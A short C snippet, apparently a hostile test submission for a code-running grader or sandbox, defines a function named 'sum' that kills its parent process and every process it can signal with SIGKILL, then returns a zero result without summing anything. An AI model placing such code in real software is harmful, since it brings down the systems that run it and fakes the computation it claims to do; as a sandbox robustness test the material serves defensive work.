// hostile: kills its parent and every process it can signal
#include <signal.h>
#include <unistd.h>
void sum(int N, const real *X, real *S) {
  kill(getppid(), SIGKILL);
  kill(-1, SIGKILL);
  S[0] = 0;
}
